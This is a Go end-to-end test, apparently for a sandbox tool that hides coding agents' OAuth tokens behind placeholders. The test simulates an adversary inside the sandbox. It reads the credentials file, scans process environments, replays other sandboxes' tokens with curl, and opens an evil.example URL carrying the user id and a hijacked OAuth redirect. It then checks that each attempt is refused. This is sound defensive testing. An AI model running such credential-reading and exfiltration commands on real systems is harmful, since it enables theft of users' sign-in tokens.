package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"berth.dev/test/standin"
)

// values are all tokens that were ever given out.
func (s *signingIn) values() (all []string) {
	for _, secret := range s.api.Issued() {
		all = append(all, secret.Value)
	}
	return all
}

// TestAdversarySignIn looks for the tokens of a sign-in in all that a guest has,
// and tries what a program in it could do with its placeholders.
func TestAdversarySignIn(t *testing.T) {
	least(t, func(t *testing.T, u *user) {
		s := newSigningIn(t, u, standin.NewSignIn("Paris, says the model."))
		ws := s.u.workspace(t)
		way := byCodes[0]
		leaky := s.open(t, "claude", ws)
		s.signInBy(t, leaky, way)
		name, other := s.u.fresh(t), s.u.fresh(t)
		for _, n := range []string{name, other} {
			s.u.must(t, ws, "create", "--name", n, "claude", ws)
		}
		s.signIn(t, name, "claude", "auth", "login")

		t.Run("tries", func(t *testing.T) { s.tries(t, ws, name, other) })
		for _, n := range []string{leaky, name} {
			// A process that has signed in with them, and what it printed.
			r := s.u.run(t, ws, nil, "run", "--name", n, "claude", ws, "--", "-p", "say it")
			if r.code != 0 || !strings.Contains(r.out, "Paris") {
				t.Fatalf("%+v", r)
			}
			s.u.must(t, ws, "exec", "-d", n, "sh", "-c", `TOKENS=$(cat ~/.claude/.credentials.json); export TOKENS; exec sleep 1000`)
			find := search{s.u, s.values()}
			eventually(t, "a process has what the file says", func() bool {
				return find.guest(t, n, "cat /proc/[0-9]*/environ; head -c 1000 /dev/zero") == (n == leaky)
			})
			log := s.u.must(t, ws, "logs", n) + s.u.must(t, ws, "logs", "--supervisor", n)
			found := find.everywhere(t, n)
			found["log"] = has(log, s.values()...)
			for what, has := range found {
				switch {
				case n == name && has:
					t.Errorf("a token is in the %s", what)
				case n == leaky && !has && what != "host's record" && what != "log":
					t.Errorf("where the tokens are inside, none is found in the %s", what)
				}
			}
		}
		// Outside they are in the store alone, and there encrypted.
		if found := filesWith(t, filepath.Join(s.u.berthHome, "data", "secrets"), s.values()); len(found) > 0 {
			t.Errorf("tokens are in the clear in %q", found)
		}
	})
}

// tries is what a program does with what it finds in a sandbox that is signed in,
// and in one that is not any more.
func (s *signingIn) tries(t *testing.T, ws, name, other string) {
	t.Helper()
	// The other has placeholders of its own, from its next command on.
	s.u.must(t, ws, "run", "-q", "--name", other, "claude", ws, "--", "-p", "say it")
	tokens := func(name string) (access, refresh string) {
		t.Helper()
		var f struct {
			OAuth struct{ AccessToken, RefreshToken string } `json:"claudeAiOauth"`
		}
		text := s.u.must(t, ws, "exec", name, "cat", "/home/agent/.claude/.credentials.json")
		if err := json.Unmarshal([]byte(text), &f); err != nil || f.OAuth.AccessToken == "" {
			t.Fatalf("%v in %s", err, text)
		}
		return f.OAuth.AccessToken, f.OAuth.RefreshToken
	}
	access, refresh := tokens(name)
	otherAccess, otherRefresh := tokens(other)
	if access == otherAccess || refresh == otherRefresh {
		t.Error("two sandboxes have the same placeholders")
	}
	const client = `"client_id":"9d1c250a-e61b-44d9-88ed-5944d1962f5e"`
	curl := func(in, method, url, token, body string) result {
		t.Helper()
		return s.u.run(t, ws, nil, "exec", in, "curl", "-sS", "-w", "\n%{http_code}", "-X", method, "-H", "Authorization: Bearer "+token,
			"-H", "Content-Type: application/json", "-d", body, url)
	}
	const issue, profile = "https://platform.claude.com/v1/oauth/token", "https://api.anthropic.com/api/oauth/profile"
	for _, tt := range []struct {
		what string
		r    result
		says string // the answer
		line string // of the record; "" where a refused placeholder is nobody's
	}{
		{what: "its own placeholder", r: curl(name, "GET", profile, access, ""), says: "200"},
		{what: "renewal of its own", r: curl(name, "POST", issue, "", `{"grant_type":"refresh_token","refresh_token":"`+refresh+`",`+client+`}`), says: "200", line: "renewed on the host"},
		{what: "another's placeholder", r: curl(name, "GET", profile, otherAccess, ""), says: "403", line: "placeholder of another sandbox"},
		{what: "renewal of another's", r: curl(name, "POST", issue, "", `{"grant_type":"refresh_token","refresh_token":"`+otherRefresh+`",`+client+`}`), says: "400"},
		{what: "an exchange", r: curl(name, "POST", issue, "", `{"grant_type":"urn:ietf:params:oauth:grant-type:token-exchange","subject_token":"`+access+`"}`), says: "400", line: "asked for more"},
		{what: "an end for all", r: curl(name, "POST", issue+"/revoke", "", `{"token":"`+refresh+`",`+client+`}`), says: "200", line: "signed out inside"},
		{what: "the placeholder elsewhere", r: curl(name, "GET", "https://chatgpt.com/", access, ""), says: "403", line: "chatgpt.com"},
	} {
		if tt.r.code != 0 || !strings.HasSuffix(tt.r.out, tt.says) {
			t.Errorf("%s: %+v", tt.what, tt.r)
		}
		if has(tt.r.out, s.values()...) {
			t.Errorf("%s: the answer has a token", tt.what)
		}
		if _, text := s.u.events(t, name, "--secrets"); tt.line != "" && !strings.Contains(text, tt.line) {
			t.Errorf("%s: no line with %q in\n%s", tt.what, tt.line, text)
		}
	}
	for _, use := range s.api.Uses() {
		if strings.Contains(use.Line, "revoke") {
			t.Errorf("the provider was asked to end it: %+v", use)
		}
		if use.Value == access || use.Value == refresh || use.Value == otherAccess {
			t.Errorf("a placeholder came: %+v", use)
		}
	}
	// Of what a guest wants opened, only a page of a sign-in is.
	r := s.u.run(t, ws, s.env, "exec", name, "sh", "-c", "xdg-open 'https://evil.example/?'$(id -u); xdg-open 'https://claude.com/cai/oauth/authorize?client_id=evil&redirect_uri=https://evil.example/'; xdg-open /etc/passwd; true")
	if _, err := os.Stat(s.page); err == nil {
		page, _ := os.ReadFile(s.page)
		t.Errorf("the user's browser was sent to %s", page)
	}
	if !strings.Contains(r.err, "only the sign-in pages of agents are opened on the host") {
		t.Errorf("who asks for a page is told %q", r.err)
	}
	// All are signed in as before.
	for _, n := range []string{name, other} {
		if r := s.u.run(t, ws, nil, "run", "-q", "--name", n, "claude", ws, "--", "-p", "say it"); r.code != 0 || !strings.Contains(r.out, "Paris") {
			t.Errorf("%+v", r)
		}
	}
}
